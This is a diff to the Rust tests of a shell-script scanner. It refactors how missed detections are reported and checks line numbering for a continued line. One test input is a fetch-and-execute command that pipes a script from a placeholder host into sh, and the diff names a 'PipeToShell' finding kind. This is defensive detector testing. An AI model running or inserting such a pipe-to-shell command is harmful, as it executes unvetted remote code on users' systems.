@@ -710,11 +710,12 @@ mod tests {
                 PipeToShell,
             ),
         ];
-        for (what, text, kind) in cases {
-            let found: Vec<FindingKind> =
-                scan_text("run.sh", text).iter().map(|f| f.kind).collect();
-            assert!(found.contains(kind), "{what}: {text:?} gave {found:?}");
-        }
+        let missed: Vec<String> = cases
+            .iter()
+            .filter(|(_, text, kind)| !scan_text("run.sh", text).iter().any(|f| f.kind == *kind))
+            .map(|(what, text, kind)| format!("{what}: {text:?} is not {kind:?}"))
+            .collect();
+        assert!(missed.is_empty(), "{missed:#?}");
         // Line numbers stay those of the file: the joined line is reported where it starts.
         let found = scan_text("a.sh", "# one\ncurl https://x.example/i \\\n | sh\n");
         assert_eq!(found[0].line, 2);
